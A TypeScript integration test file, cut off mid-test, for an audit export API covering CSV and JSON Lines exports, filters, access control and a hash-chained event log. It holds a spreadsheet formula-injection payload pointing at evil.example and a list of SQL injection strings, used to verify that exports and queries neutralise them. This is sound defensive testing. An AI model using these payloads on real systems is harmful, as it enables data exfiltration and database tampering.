import {
  EVENT_DOCUMENT_COLUMNS,
  type EventDocumentRow,
  eventDocument,
  exportLine,
  GENESIS_HASH,
  linkHash,
  MAX_CONCURRENT_EXPORTS,
} from '@arbiter/audit';
import assert from 'node:assert/strict';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import { after, before, describe, it } from 'node:test';
import pg from 'pg';
import { type RunningApi, startApi } from './support/api-harness.js';
import { parseCsv } from './support/csv.js';
import { itemBody, loginAdmin, newQueue, newServiceKey, newUser } from './support/factories.js';
import { eventually } from './support/review-kit.js';
import { openSealer, sealEverything } from './support/sealer.js';
import { createTestEnv, type TestEnv } from './support/test-env.js';

interface Raw {
  status: number;
  headers: Headers;
  text: string;
}

const CSV_HEADER = [
  'decisionId',
  'itemId',
  'externalId',
  'queue',
  'modelName',
  'modelVersion',
  'confidence',
  'reason',
  'verdict',
  'reviewerId',
  'reviewerEmail',
  'comment',
  'receivedAt',
  'decidedAt',
  'timeToDecisionMs',
  'durationMs',
  'aiOutput',
  'finalOutput',
  'patch',
  'gold',
];

const jsonl = (text: string) =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));

describe('audit export', () => {
  let env: TestEnv;
  let api: RunningApi;
  let db: pg.Client;
  let admin: string;
  let auditor: { id: string; email: string; token: string };
  let reviewer: { id: string; email: string; token: string };
  let second: { id: string; email: string; token: string };
  let serviceKey: string;
  let main: { id: string; slug: string };
  let other: { id: string; slug: string };
  let auto: { id: string; slug: string };
  let fallback: { id: string; slug: string };
  let timed: { id: string; slug: string };
  /** Decisions made in `before`, by verdict. */
  const made: Record<string, { item: any; decision: any }> = {};

  async function exportRaw(path: string, token?: string, headers: Record<string, string> = {}): Promise<Raw> {
    const res = await fetch(api.url + path, {
      headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers },
    });
    return { status: res.status, headers: res.headers, text: await res.text() };
  }

  async function decisions(query: string, token = auditor.token): Promise<any[]> {
    const res = await exportRaw(`/api/v1/audit/decisions?${query}`, token);
    assert.equal(res.status, 200, res.text);
    return jsonl(res.text);
  }

  async function submit(slug: string, overrides: Record<string, unknown> = {}) {
    const res = await api.client.post(`/api/v1/queues/${slug}/items`, itemBody(overrides), {
      apiKey: serviceKey,
    });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    return res.body;
  }

  /** Submits an item, claims it as `who` and decides it. */
  async function decide(
    slug: string,
    who: { token: string },
    body: Record<string, unknown>,
    overrides: Record<string, unknown> = {},
  ) {
    const item = await submit(slug, overrides);
    const claim = await api.client.post(`/api/v1/queues/${slug}/claim`, undefined, { token: who.token });
    assert.equal(claim.status, 200, JSON.stringify(claim.body));
    assert.equal(claim.body.item.id, item.id);
    const res = await api.client.post(`/api/v1/claims/${claim.body.claim.token}/decision`, body, {
      token: who.token,
    });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    return { item, decision: res.body.decision };
  }

  before(async () => {
    env = await createTestEnv();
    api = await startApi(env.config());
    db = new pg.Client({ connectionString: env.databaseUrl });
    await db.connect();
    admin = await loginAdmin(api.client);
    main = await newQueue(api.client, admin);
    other = await newQueue(api.client, admin);
    auto = await newQueue(api.client, admin, { autoApproveAbove: 0.9 });
    fallback = await newQueue(api.client, admin);
    timed = await newQueue(api.client, admin);
    const slugs = [main.slug, other.slug, auto.slug, fallback.slug, timed.slug];
    serviceKey = (await newServiceKey(api.client, admin, slugs)).key;
    reviewer = await newUser(api.client, admin, ['reviewer'], [main.slug, other.slug, timed.slug]);
    second = await newUser(api.client, admin, ['reviewer'], [main.slug, other.slug]);
    auditor = await newUser(api.client, admin, ['auditor']);

    made['approve'] = await decide(main.slug, reviewer, {
      verdict: 'approve',
      comment: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    });
    made['correct'] = await decide(
      main.slug,
      reviewer,
      { verdict: 'correct', output: { label: 'refund_request' }, comment: '+1' },
      { model: { name: 'org@ranker', version: 'v2' } },
    );
    made['reject'] = await decide(main.slug, second, { verdict: 'reject', comment: '-2' });
    made['other'] = await decide(
      other.slug,
      second,
      { verdict: 'approve', comment: '@x' },
      { model: { name: 'classifier', version: '2027-01' } },
    );
    made['tab'] = await decide(other.slug, second, { verdict: 'approve', comment: '\tcmd' });
    made['cr'] = await decide(other.slug, second, { verdict: 'approve', comment: '\rcmd, "quoted"\nline' });
    const autoItem = await api.client.post(
      `/api/v1/queues/${auto.slug}/items`,
      itemBody({ confidence: 0.95 }),
      { apiKey: serviceKey },
    );
    assert.equal(autoItem.body.status, 'auto_approved');
    made['auto_approve'] = { item: autoItem.body, decision: null };
    // The SLA policy records fallbacks; written directly here, as that policy would.
    const fallbackItem = await submit(fallback.slug, { model: { name: 'fallback-model', version: 'v1' } });
    await db.query(`UPDATE items SET status = 'fallback' WHERE id = $1`, [fallbackItem.id]);
    const inserted = await db.query(
      `INSERT INTO decisions (item_id, queue_id, verdict, output, patch, reviewer_id)
       VALUES ($1, $2, 'fallback', '{"label": "unknown"}', NULL, NULL) RETURNING id`,
      [fallbackItem.id, fallback.id],
    );
    made['fallback'] = { item: fallbackItem, decision: { id: inserted.rows[0].id } };
  });

  after(async () => {
    await db?.end();
    await api?.close();
    await env?.cleanup();
  });

  describe('decisions as JSON Lines', () => {
    it('streams one object per line with every field, as an attachment', async () => {
      const res = await exportRaw(`/api/v1/audit/decisions?queue=${main.slug}`, auditor.token);
      assert.equal(res.status, 200, res.text);
      assert.match(res.headers.get('content-type')!, /^application\/x-ndjson/);
      assert.match(
        res.headers.get('content-disposition')!,
        new RegExp(`^attachment; filename="arbiter-decisions-${main.slug}-[0-9TZ-]+\\.jsonl"$`),
      );
      assert.equal(res.headers.get('cache-control'), 'no-store');
      assert.ok(res.text.endsWith('\n'));
      const rows = jsonl(res.text);
      assert.deepEqual(
        rows.map((r) => r.verdict),
        ['approve', 'correct', 'reject'],
      );
      for (const row of rows) {
        assert.deepEqual(Object.keys(row), [
          'decisionId',
          'itemId',
          'externalId',
          'queue',
          'model',
          'confidence',
          'reason',
          'aiOutput',
          'finalOutput',
          'patch',
          'verdict',
          'reviewer',
          'comment',
          'receivedAt',
          'decidedAt',
          'timeToDecisionMs',
          'durationMs',
          'gold',
        ]);
      }
    });

    it('an approval: the AI output is the final output, an empty patch, the reviewer', async () => {
      const { item, decision } = made['approve']!;
      const [row] = await decisions(`queue=${main.slug}&verdict=approve`);
      assert.deepEqual(row, {
        decisionId: decision.id,
        itemId: item.id,
        externalId: item.externalId,
        queue: main.slug,
        model: { name: 'classifier', version: '2026-11' },
        confidence: 0.42,
        reason: 'low_confidence',
        aiOutput: { label: 'complaint' },
        finalOutput: { label: 'complaint' },
        patch: [],
        verdict: 'approve',
        reviewer: { id: reviewer.id, email: reviewer.email },
        comment: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        receivedAt: item.createdAt,
        decidedAt: decision.decidedAt,
        timeToDecisionMs: Date.parse(decision.decidedAt) - Date.parse(item.createdAt),
        durationMs: decision.durationMs,
        gold: false,
      });
      assert.equal(typeof row.durationMs, 'number');
      assert.ok(row.timeToDecisionMs >= 0);
    });

    it('a correction carries the corrected output and the patch to it', async () => {
      const { item, decision } = made['correct']!;
      const [row] = await decisions(`queue=${main.slug}&verdict=correct`);
      assert.equal(row.decisionId, decision.id);
      assert.equal(row.itemId, item.id);
      assert.deepEqual(row.model, { name: 'org@ranker', version: 'v2' });
      assert.deepEqual(row.aiOutput, { label: 'complaint' });
      assert.deepEqual(row.finalOutput, { label: 'refund_request' });
      assert.deepEqual(row.patch, [{ op: 'replace', path: '/label', value: 'refund_request' }]);
      assert.deepEqual(row.patch, decision.patch);
      assert.deepEqual(row.reviewer, { id: reviewer.id, email: reviewer.email });
      assert.equal(row.comment, '+1');
    });

    it('a rejection has no final output and no patch', async () => {
      const [row] = await decisions(`queue=${main.slug}&verdict=reject`);
      assert.equal(row.decisionId, made['reject']!.decision.id);
      assert.equal(row.finalOutput, null);
      assert.equal(row.patch, null);
      assert.deepEqual(row.aiOutput, { label: 'complaint' });
      assert.deepEqual(row.reviewer, { id: second.id, email: second.email });
      assert.equal(row.comment, '-2');
    });

    it('an auto-approval has no reviewer, decided when received', async () => {
      const { item } = made['auto_approve']!;
      const rows = await decisions(`queue=${auto.slug}`);
      assert.equal(rows.length, 1);
      const [row] = rows;
      assert.equal(row.itemId, item.id);
      assert.equal(row.verdict, 'auto_approve');
      assert.equal(row.reviewer, null);
      assert.equal(row.comment, null);
      assert.equal(row.confidence, 0.95);
      assert.deepEqual(row.finalOutput, row.aiOutput);
      assert.deepEqual(row.patch, []);
      assert.equal(row.receivedAt, item.createdAt);
      assert.equal(row.decidedAt, item.createdAt);
      assert.equal(row.timeToDecisionMs, 0);
      assert.equal(row.durationMs, null);
    });

    it('keeps every character of text as it was stored', async () => {
      const [row] = await decisions(`queue=${other.slug}&order=desc&limit=1`);
      assert.equal(row.comment, '\rcmd, "quoted"\nline');
    });
  });

  describe('decisions as CSV', () => {
    it('has a header row, RFC 4180 quoting and flat columns', async () => {
      const res = await exportRaw(`/api/v1/audit/decisions?format=csv&queue=${main.slug}`, auditor.token);
      assert.equal(res.status, 200, res.text);
      assert.match(res.headers.get('content-type')!, /^text\/csv/);
      assert.match(
        res.headers.get('content-disposition')!,
        /^attachment; filename="arbiter-decisions-[a-z0-9-]+-[0-9TZ-]+\.csv"$/,
      );
      const [header, ...rows] = parseCsv(res.text);
      assert.deepEqual(header, CSV_HEADER);
      assert.equal(rows.length, 3);
      const cell = (row: string[], name: string) => row[CSV_HEADER.indexOf(name)];
      const correct = rows.find((r) => cell(r, 'verdict') === 'correct')!;
      assert.equal(cell(correct, 'decisionId'), made['correct']!.decision.id);
      assert.equal(cell(correct, 'modelName'), 'org@ranker');
      assert.equal(cell(correct, 'modelVersion'), 'v2');
      assert.equal(cell(correct, 'confidence'), '0.42');
      assert.equal(cell(correct, 'reviewerId'), reviewer.id);
      assert.equal(cell(correct, 'reviewerEmail'), reviewer.email);
      assert.equal(cell(correct, 'decidedAt'), made['correct']!.decision.decidedAt);
      assert.deepEqual(JSON.parse(cell(correct, 'aiOutput')!), { label: 'complaint' });
      assert.deepEqual(JSON.parse(cell(correct, 'finalOutput')!), { label: 'refund_request' });
      assert.deepEqual(JSON.parse(cell(correct, 'patch')!), made['correct']!.decision.patch);
      const reject = rows.find((r) => cell(r, 'verdict') === 'reject')!;
      assert.equal(cell(reject, 'finalOutput'), '');
      assert.equal(cell(reject, 'patch'), '');
    });

    it('prefixes a quote to any cell a spreadsheet would run as a formula', async () => {
      const res = await exportRaw(`/api/v1/audit/decisions?format=csv&order=asc`, auditor.token);
      const [header, ...rows] = parseCsv(res.text);
      const comments = rows.map((r) => r[header!.indexOf('comment')]);
      assert.ok(comments.includes(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`), comments.join('|'));
      assert.ok(comments.includes(`'+1`));
      assert.ok(comments.includes(`'-2`));
      assert.ok(comments.includes(`'@x`));
      assert.ok(comments.includes(`'\tcmd`));
      assert.ok(comments.includes(`'\rcmd, "quoted"\nline`));
      for (const row of rows) {
        for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `cell ${JSON.stringify(value)}`);
      }
      // The raw text: the formula cell is quoted as a whole, its quotes doubled.
      assert.ok(res.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`));
    });

    it('an auto-approval leaves the reviewer cells empty', async () => {
      const res = await exportRaw(`/api/v1/audit/decisions?format=csv&queue=${auto.slug}`, auditor.token);
      const [header, row] = parseCsv(res.text);
      assert.equal(row![header!.indexOf('verdict')], 'auto_approve');
      assert.equal(row![header!.indexOf('reviewerId')], '');
      assert.equal(row![header!.indexOf('reviewerEmail')], '');
      assert.equal(row![header!.indexOf('timeToDecisionMs')], '0');
    });

    it('an empty export is the header alone', async () => {
      const res = await exportRaw(
        `/api/v1/audit/decisions?format=csv&queue=${main.slug}&verdict=fallback`,
        auditor.token,
      );
      assert.equal(res.status, 200);
      assert.equal(res.text, `${CSV_HEADER.join(',')}\n`);
      const none = await exportRaw(`/api/v1/audit/decisions?queue=${main.slug}&verdict=fallback`, admin);
      assert.equal(none.status, 200);
      assert.equal(none.text, '');
    });
  });

  describe('filters', () => {
    it('queue: only that queue; an unknown slug is 404 NOT_FOUND', async () => {
      const rows = await decisions(`queue=${other.slug}`);
      assert.equal(rows.length, 3);
      assert.ok(rows.every((r) => r.queue === other.slug));
      const unknown = await api.client.get('/api/v1/audit/decisions?queue=no-such-queue', { token: admin });
      assert.equal(unknown.status, 404);
      assert.equal(unknown.body.code, 'NOT_FOUND');
    });

    it('reviewer: by user id and by email (any case); an unknown one matches nothing', async () => {
      const byId = await decisions(`reviewer=${second.id}`);
      assert.deepEqual(
        byId.map((r) => r.decisionId).sort(),
        [made['reject'], made['other'], made['tab'], made['cr']].map((m) => m!.decision.id).sort(),
      );
      const byEmail = await decisions(`reviewer=${encodeURIComponent(second.email.toUpperCase())}`);
      assert.deepEqual(byEmail, byId);
      const mine = await decisions(`reviewer=${reviewer.id.toUpperCase()}`);
      assert.deepEqual(
        mine.map((r) => r.verdict),
        ['approve', 'correct'],
      );
      assert.deepEqual(await decisions('reviewer=nobody%40test.local'), []);
      assert.deepEqual(await decisions('reviewer=00000000-0000-4000-8000-000000000000'), []);
    });

    it('verdict', async () => {
      for (const verdict of ['approve', 'correct', 'reject', 'auto_approve', 'fallback']) {
        const rows = await decisions(`verdict=${verdict}`);
        assert.ok(
          rows.every((r) => r.verdict === verdict),
          verdict,
        );
      }
      assert.equal((await decisions('verdict=correct')).length, 1);
      assert.equal((await decisions('verdict=auto_approve')).length, 1);
      const [fallbackRow] = await decisions('verdict=fallback');
      assert.equal(fallbackRow.decisionId, made['fallback']!.decision.id);
      assert.equal(fallbackRow.queue, fallback.slug);
      assert.equal(fallbackRow.reviewer, null);
      assert.deepEqual(fallbackRow.finalOutput, { label: 'unknown' });
      assert.equal(fallbackRow.patch, null);
    });

    it('model: by name, by name@version, a name holding @', async () => {
      const byName = await decisions('model=classifier');
      assert.equal(byName.length, 6);
      assert.ok(byName.every((r) => r.model.name === 'classifier'));
      const byVersion = await decisions('model=classifier%402027-01');
      assert.deepEqual(
        byVersion.map((r) => r.decisionId),
        [made['other']!.decision.id],
      );
      assert.equal((await decisions('model=classifier%402026-11')).length, 5);
      assert.equal((await decisions('model=classifier%409999')).length, 0);
      assert.deepEqual(
        (await decisions('model=org%40ranker')).map((r) => r.decisionId),
        [made['correct']!.decision.id],
      );
      assert.equal((await decisions('model=org%40ranker%40v2')).length, 1);
      assert.equal((await decisions('model=org%40ranker%40v1')).length, 0);
      assert.equal((await decisions('model=Classifier')).length, 0, 'names match exactly');
    });

    it('limit and order: by decision time then id, ascending by default', async () => {
      const all = await decisions('');
      const times = all.map((r) => r.decidedAt);
      assert.deepEqual(times, [...times].sort());
      const desc = await decisions('order=desc');
      assert.deepEqual(
        desc.map((r) => r.decisionId),
        all.map((r) => r.decisionId).reverse(),
      );
      const firstTwo = await decisions('limit=2');
      assert.deepEqual(firstTwo, all.slice(0, 2));
      const lastOne = await decisions('limit=1&order=desc');
      assert.deepEqual(lastOne, all.slice(-1));
      assert.equal((await decisions('limit=10000')).length, all.length);
    });

    it('from (inclusive) and to (exclusive) on the decision time', async () => {
      // Decisions at known instants, in a queue of their own.
      const ids: string[] = [];
      for (let i = 0; i < 4; i++) {
        const { decision } = await decide(timed.slug, reviewer, { verdict: 'approve' });
        ids.push(decision.id);
      }
      await db.query(
        `UPDATE decisions d SET decided_at = t.at FROM unnest($1::uuid[], $2::timestamptz[]) AS t(id, at) WHERE d.id = t.id`,
        [
          ids,
          [
            '2030-01-01T00:00:00.000001Z',
            '2030-01-01T00:00:01Z',
            '2030-01-01T01:00:01.5Z',
            '2030-01-02T00:00:00Z',
          ],
        ],
      );
      const window = async (query: string) =>
        (await decisions(`queue=${timed.slug}&${query}`)).map((r) => ids.indexOf(r.decisionId));
      assert.deepEqual(await window('from=2030-01-01T00:00:01Z'), [1, 2, 3]);
      assert.deepEqual(await window('to=2030-01-01T00:00:01Z'), [0]);
      assert.deepEqual(await window('from=2030-01-01T00:00:00.000001Z&to=2030-01-02'), [0, 1, 2]);
      assert.deepEqual(await window('from=2030-01-01T00:00:00.000002Z'), [1, 2, 3]);
      assert.deepEqual(await window('from=2030-01-01T02:00:01.5%2B01:00&to=2030-01-01T01:00:02Z'), [2]);
      assert.deepEqual(await window('from=2030-01-01T01:00&to=2030-01-01T01:01'), [2]);
      assert.deepEqual(await window('from=2030-01-01T01%3A00%3A01.500%2B0000'), [2, 3]);
      assert.deepEqual(await window('from=2030-01-02T00:00:00Z&order=desc'), [3]);
      assert.deepEqual(await window('from=2031-01-01'), []);
      const [row] = await decisions(`queue=${timed.slug}&limit=1`);
      assert.equal(row.decidedAt, '2030-01-01T00:00:00.000Z');
    });
  });

  describe('validation', () => {
    const refused: [string, string][] = [
      ['an unknown parameter', 'foo=bar'],
      ['a misspelt filter', 'reviewers=x%40y.z'],
      ['an unknown format', 'format=xml'],
      ['a bad slug', 'queue=Not_A_Slug'],
      ['an empty queue', 'queue='],
      ['a time that is not ISO 8601', 'from=yesterday'],
      ['a date that does not exist', 'from=2026-02-30'],
      ['hour 24', 'to=2026-01-01T24:00:00Z'],
      ['a numeric time', 'from=1700000000'],
      ['an offset out of range', 'from=2026-01-01T00:00:00%2B25:00'],
      ['too many fraction digits', 'from=2026-01-01T00:00:00.1234567Z'],
      ['to before from', 'from=2026-01-02&to=2026-01-01'],
      ['to equal to from', 'from=2026-01-01&to=2026-01-01T00:00:00Z'],
      ['a reviewer that is neither id nor email', 'reviewer=bob'],
      ['an unknown verdict', 'verdict=maybe'],
      ['a model with a control character', 'model=a%00b'],
      ['a model with a newline', 'model=a%0Ab'],
      ['an over-long model', `model=${'m'.repeat(302)}`],
      ['limit 0', 'limit=0'],
      ['limit 10001', 'limit=10001'],
      ['a fractional limit', 'limit=1.5'],
      ['a negative limit', 'limit=-1'],
      ['a word for limit', 'limit=all'],
      ['an unknown order', 'order=random'],
      ['a repeated parameter', 'verdict=approve&verdict=reject'],
    ];
    for (const [what, query] of refused) {
      it(`decisions: refuses ${what} with 400 VALIDATION_FAILED`, async () => {
        const res = await api.client.get(`/api/v1/audit/decisions?${query}`, { token: auditor.token });
        assert.equal(res.status, 400, JSON.stringify(res.body));
        assert.equal(res.body.code, 'VALIDATION_FAILED');
        assert.ok(res.body.details.length > 0);
      });
    }

    const refusedEvents: [string, string][] = [
      ['format=csv', 'format=csv'],
      ['an unknown parameter', 'queue=abc'],
      ['a bad time', 'from=2026-13-01'],
      ['a malformed action list', 'action=item.decided,,item.claimed'],
      ['an action with SQL', "action=item.decided')%20OR%20('1'='1"],
      ['a subject with a control character', 'subject=a%01b'],
      ['limit 0', 'limit=0'],
      ['an unknown order', 'order=up'],
    ];
    for (const [what, query] of refusedEvents) {
      it(`events: refuses ${what} with 400 VALIDATION_FAILED`, async () => {
        const res = await api.client.get(`/api/v1/audit/events?${query}`, { token: auditor.token });
        assert.equal(res.status, 400, JSON.stringify(res.body));
        assert.equal(res.body.code, 'VALIDATION_FAILED');
      });
    }
  });

  describe('hostile filter values', () => {
    const hostile = [
      "x' OR '1'='1",
      "'; DROP TABLE decisions; --",
      "\\' OR 1=1 --",
      "classifier' OR i.model_name <> '",
      'classifier\\',
      '$$ OR true $$',
      "classifier'); SELECT pg_sleep(5); --",
      "E'\\x27 OR true --",
      "classifier@2026-11' OR ''='",
      'ṁödel \u202e ’ʼ″ 😀',
    ];
    for (const value of hostile) {
      it(`model=${JSON.stringify(value)} matches nothing and changes nothing`, async () => {
        const before = await db.query('SELECT count(*)::int AS n FROM decisions');
        const res = await exportRaw(
          `/api/v1/audit/decisions?model=${encodeURIComponent(value)}`,
          auditor.token,
        );
        assert.equal(res.status, 200, res.text);
        assert.equal(res.text, '');
        const csv = await exportRaw(
          `/api/v1/audit/decisions?format=csv&model=${encodeURIComponent(value)}`,
          auditor.token,
        );
        assert.equal(csv.text, `${CSV_HEADER.join(',')}\n`);
        const after = await db.query('SELECT count(*)::int AS n FROM decisions');
        assert.equal(after.rows[0].n, before.rows[0].n);
      });
    }

    it('a model name with quotes and backslashes is matched literally', async () => {
      const tricky = "o'brien\\' OR '1'='1";
      const { decision } = await decide(
        other.slug,
        reviewer,
        { verdict: 'approve' },
        { model: { name: tricky, version: "v'1" } },
      );
      const rows = await decisions(`model=${encodeURIComponent(tricky)}`);
      assert.deepEqual(
        rows.map((r) => r.decisionId),
        [decision.id],
      );
      assert.equal((await decisions(`model=${encodeURIComponent(`${tricky}@v'1`)}`)).length, 1);
      assert.equal((await decisions(`model=${encodeURIComponent(`${tricky}@v'2`)}`)).length, 0);
    });

    it('an email with a quote is looked up, not spliced in', async () => {
      const res = await exportRaw(
        `/api/v1/audit/decisions?reviewer=${encodeURIComponent("o'brien'or'1'='1@test.local")}`,
        auditor.token,
      );
      assert.equal(res.status, 200, res.text);
      assert.equal(res.text, '');
    });

    for (const subject of ["' OR ''='", "x\\' OR true --", "'); DROP TABLE audit_events; --"]) {
      it(`events subject=${JSON.stringify(subject)} matches nothing`, async () => {
        const res = await exportRaw(
          `/api/v1/audit/events?subject=${encodeURIComponent(subject)}`,
          auditor.token,
        );
        assert.equal(res.status, 200, res.text);
        assert.equal(res.text, '');
        const { rows } = await db.query('SELECT count(*)::int AS n FROM audit_events');
        assert.ok(rows[0].n > 0);
      });
    }
  });

  describe('who may export', () => {
    for (const path of ['/api/v1/audit/decisions', '/api/v1/audit/events']) {
      it(`${path}: anonymous 401, reviewer and service key 403, admin and auditor 200`, async () => {
        const anonymous = await api.client.get(path);
        assert.equal(anonymous.status, 401);
        assert.equal(anonymous.body.code, 'UNAUTHENTICATED');
        const badToken = await api.client.get(path, { token: 'not-a-token' });
        assert.equal(badToken.status, 401);
        const asReviewer = await api.client.get(path, { token: reviewer.token });
        assert.equal(asReviewer.status, 403);
        assert.equal(asReviewer.body.code, 'FORBIDDEN');
        const asService = await api.client.get(path, { apiKey: serviceKey });
        assert.equal(asService.status, 403);
        assert.equal(asService.body.code, 'FORBIDDEN');
        assert.equal((await exportRaw(path, admin)).status, 200);
        assert.equal((await exportRaw(path, auditor.token)).status, 200);
        const both = await newUser(api.client, admin, ['reviewer', 'auditor']);
        assert.equal((await exportRaw(path, both.token)).status, 200);
      });
    }

    it('validation does not leak past authentication', async () => {
      const res = await api.client.get('/api/v1/audit/decisions?foo=bar');
      assert.equal(res.status, 401);
    });

    it('both routes are in the OpenAPI document with their parameters', async () => {
      const doc = (await api.client.get('/docs-json')).body;
      const decisionsOp = doc.paths['/api/v1/audit/decisions'].get;
      const names = decisionsOp.parameters.map((p: { name: string }) => p.name).sort();
      assert.deepEqual(names, [
        'format',
        'from',
        'limit',
        'model',
        'order',
        'queue',
        'reviewer',
        'to',
        'verdict',
      ]);
      const eventsOp = doc.paths['/api/v1/audit/events'].get;
      assert.deepEqual(eventsOp.parameters.map((p: { name: string }) => p.name).sort(), [
        'action',
        'format',
        'from',
        'limit',
        'order',
        'subject',
        'to',
      ]);
      assert.ok(eventsOp.responses['200'].headers['X-Audit-Chain-Head']);
    });
  });

  describe('events', () => {
    const documentRows = async (): Promise<(EventDocumentRow & Record<string, any>)[]> =>
      (
        await db.query(
          `SELECT ${EVENT_DOCUMENT_COLUMNS}, c.pos, c.prev_hash, c.hash
             FROM audit_events e LEFT JOIN audit_chain c ON c.seq = e.seq ORDER BY e.seq`,
        )
      ).rows;
    const expectedLine = (row: EventDocumentRow & Record<string, any>) =>
      exportLine(
        eventDocument(row),
        row['pos'] === null
          ? null
          : { pos: Number(row['pos']), prevHash: row['prev_hash'], hash: row['hash'] },
      );

    it('streams every event, by seq, each line exactly exportLine(eventDocument(row), link)', async () => {
      const res = await exportRaw('/api/v1/audit/events', auditor.token);
      assert.equal(res.status, 200, res.text);
      assert.match(res.headers.get('content-type')!, /^application\/x-ndjson/);
      assert.match(
        res.headers.get('content-disposition')!,
        /^attachment; filename="arbiter-audit-events-[0-9TZ-]+\.jsonl"$/,
      );
      const rows = await documentRows();
      assert.ok(rows.length > 10);
      assert.equal(res.text, rows.map(expectedLine).join(''));
      const events = jsonl(res.text);
      for (const event of events) {
        assert.deepEqual(Object.keys(event), [
          'seq',
          'id',
          'at',
          'actor',
          'action',
          'subject',
          'queueId',
          'data',
          'chain',
        ]);
        assert.equal(typeof event.seq, 'number');
        assert.match(event.at, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
        assert.ok(['user', 'service', 'system'].includes(event.actor.type));
      }
      const decided = events.find(
        (e) => e.action === 'item.decided' && e.data.decisionId === made['correct']!.decision.id,
      );
      assert.ok(decided, 'the correction is in the log');
      assert.equal(decided.subject.type, 'item');
      assert.equal(decided.subject.id, made['correct']!.item.id);
      assert.equal(decided.actor.id, reviewer.id);
      assert.equal(decided.queueId, main.id);
    });

    it('chain is null and the head is genesis until the sealer runs; then each line carries its link', async () => {
      const before = await exportRaw('/api/v1/audit/events?limit=5', auditor.token);
      const sealedBefore = (await db.query('SELECT count(*)::int AS n FROM audit_chain')).rows[0].n;
      if (sealedBefore === 0) {
        assert.equal(before.headers.get('x-audit-chain-sealed'), '0');
        assert.equal(before.headers.get('x-audit-chain-head'), GENESIS_HASH);
        assert.ok(jsonl(before.text).every((e) => e.chain === null));
      }

      const sealing = await openSealer(env.config(), 1);
      try {
        await sealEverything(sealing.sealer);
      } finally {
        await sealing.close();
      }
      // A new event after sealing stays unsealed.
      await submit(main.slug);

      const res = await exportRaw('/api/v1/audit/events', auditor.token);
      const sealedCount = (await db.query('SELECT count(*)::int AS n FROM audit_chain')).rows[0].n;
      const head = (await db.query('SELECT hash FROM audit_chain ORDER BY pos DESC LIMIT 1')).rows[0].hash;
      assert.equal(res.headers.get('x-audit-chain-sealed'), String(sealedCount));
      assert.equal(res.headers.get('x-audit-chain-head'), head);
      assert.equal(res.text, (await documentRows()).map(expectedLine).join(''));
      const events = jsonl(res.text);
      const sealed = events.filter((e) => e.chain !== null);
      assert.equal(sealed.length, sealedCount);
      assert.equal(events.at(-1).chain, null);
      // The export is enough to check the chain: each link hashes the line without its chain field.
      let prev = GENESIS_HASH;
      for (const [index, event] of sealed.entries()) {
        const { chain: link, ...document } = event;
        assert.equal(link.pos, index + 1);
        assert.equal(link.prevHash, prev);
        assert.equal(linkHash(prev, document), link.hash, `seq ${event.seq}`);
        prev = link.hash;
      }
      assert.equal(prev, head);
    });

    it('filters by action list, subject, time, limit and order', async () => {
      const all = jsonl((await exportRaw('/api/v1/audit/events', auditor.token)).text);
      const pick = async (query: string) =>
        jsonl((await exportRaw(`/api/v1/audit/events?${query}`, auditor.token)).text);

      const decidedOrClaimed = await pick('action=item.decided,item.claimed');
      assert.deepEqual(
        decidedOrClaimed.map((e) => e.seq),
        all.filter((e) => e.action === 'item.decided' || e.action === 'item.claimed').map((e) => e.seq),
      );
      assert.ok(decidedOrClaimed.length >= 6);
      assert.deepEqual(await pick('action=no_such.action'), []);

      const itemId = made['approve']!.item.id;
      const ofItem = await pick(`subject=${itemId}`);
      assert.deepEqual(
        ofItem.map((e) => e.action),
        ['item.received', 'item.claimed', 'item.decided'],
      );

      const desc = await pick('order=desc&limit=3');
      assert.deepEqual(
        desc.map((e) => e.seq),
        all
          .slice(-3)
          .reverse()
          .map((e) => e.seq),
      );
      assert.deepEqual(await pick('limit=2'), all.slice(0, 2));

      const middle = all[Math.floor(all.length / 2)];
      const fromMiddle = await pick(`from=${encodeURIComponent(middle.at)}`);
      assert.deepEqual(
        fromMiddle.map((e) => e.seq),
        all.filter((e) => e.at >= middle.at).map((e) => e.seq),
      );
      const beforeMiddle = await pick(`to=${encodeURIComponent(middle.at)}`);
      assert.deepEqual(
        beforeMiddle.map((e) => e.seq),
        all.filter((e) => e.at < middle.at).map((e) => e.seq),
      );
    });
  });

  describe('streaming', () => {
    /** Many decisions with outputs of about 1 KB, straight into the tables, in a queue of their own. */
    let bulk: { id: string; slug: string };
    const BULK = 20_000;

    before(async () => {
      bulk = await newQueue(api.client, admin);
      const { rows } = await db.query('SELECT id, service FROM api_keys LIMIT 1');
      await db.query(
        `WITH ins AS (
           INSERT INTO items (id, queue_id, service, api_key_id, external_id, request_hash, model_name,
                              model_version, input, output, confidence, reason, status)
           SELECT gen_random_uuid(), $1, $2, $3, 'bulk-' || g, md5(g::text), 'bulk', 'v1', '{}'::jsonb,
                  jsonb_build_object('label', 'complaint', 'text', repeat(md5(g::text), 30)), 0.5,
                  'low_confidence', 'approved'
             FROM generate_series(1, $4::int) g
           RETURNING id, output)
         INSERT INTO decisions (item_id, queue_id, verdict, output, patch, reviewer_id, duration_ms)
         SELECT id, $1, 'approve', output, '[]'::jsonb, $5, 1000 FROM ins`,
        [bulk.id, rows[0].service, rows[0].id, BULK, reviewer.id],
      );
    });

    const exportBackends = async () =>
      (
        await db.query(
          `SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = 'arbiter-export'`,
        )
      ).rows[0].n as number;

    /** Opens an export and reads its first chunk, then stops reading. */
    function openPaused(path: string, token: string) {
      return new Promise<{ res: IncomingMessage; destroy: () => void }>((resolve, reject) => {
        const req = httpRequest(api.url + path, { headers: { authorization: `Bearer ${token}` } }, (res) => {
          res.once('data', () => {
            res.pause();
            resolve({ res, destroy: () => req.destroy() });
          });
          res.once('error', () => undefined);
        });
        req.once('error', (error) => {
          if (!('code' in error && error.code === 'ECONNRESET')) reject(error);
        });
        req.end();
      });
    }

    it('streams all rows of a large export', async () => {
      const res = await fetch(`${api.url}/api/v1/audit/decisions?queue=${bulk.slug}`, {
